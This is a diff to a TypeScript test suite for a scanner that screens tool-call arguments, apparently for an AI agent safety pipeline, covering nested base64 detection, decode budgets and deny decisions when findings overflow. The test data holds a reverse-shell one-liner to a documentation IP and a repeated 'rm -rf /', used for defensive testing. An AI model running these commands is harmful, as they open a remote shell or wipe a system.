@@ -144,16 +144,31 @@ describe('pre-filter against hostile input', () => {
   it('bounds decoding depth and total decoded size', () => {
     let payload = 'bash -i >& /dev/tcp/203.0.113.1/9 0>&1';
     for (let i = 0; i < 6; i++) payload = Buffer.from(payload).toString('base64');
-    // Six layers of base64 exceed the default depth of three: nothing is found, and nothing hangs.
-    expect(scanArguments({ blob: payload }, tool)).toEqual([]);
+    // Six layers of base64 exceed the default depth of three: the nesting itself is the finding.
+    expect(scanArguments({ blob: payload }, tool)).toEqual([
+      expect.objectContaining({ detector: 'hidden-text', code: 'nested_encoding' }),
+    ]);
     const many = Array.from({ length: 2000 }, () => Buffer.from('x'.repeat(300)).toString('base64'));
     const start = performance.now();
-    scanArguments({ list: many }, tool, undefined, {
+    const found = scanArguments({ list: many }, tool, undefined, {
       maxDecodeDepth: 3,
       maxDecodedChars: 10_000,
       maxFindings: 32,
     });
     expect(performance.now() - start).toBeLessThan(bound);
+    // What the budget left unread cannot be vouched for: the scan says it stopped.
+    expect(found.at(-1)).toMatchObject({ detector: 'scan-limit', code: 'decode_budget' });
+  });
+
+  it('blocks when padding pushes a payload past the findings cap, whatever the tier records', async () => {
+    const padded: Record<string, string> = {};
+    for (let i = 0; i < 40; i++) padded[`k${i}`] = 'rm -rf /';
+    padded['z'] = 'bash -i >& /dev/tcp/203.0.113.1/9 0>&1';
+    const recordAll = parseSettings({ ...DEFAULT_SETTINGS, tools: [{ match: '*', prefilterBlock: 'none' }] });
+    const pipeline = createPipeline([createTierLayer(recordAll), createPrefilterLayer(recordAll)]);
+    const d = (await pipeline.evaluate(makeCall(padded, { tool: shellTool }))).decision;
+    expect(d.outcome).toBe('deny');
+    expect(d.reasons[0]?.detail).toContain('scan-limit/too_many_findings');
   });
 
   it('never throws on non-string leaves or odd shapes', () => {
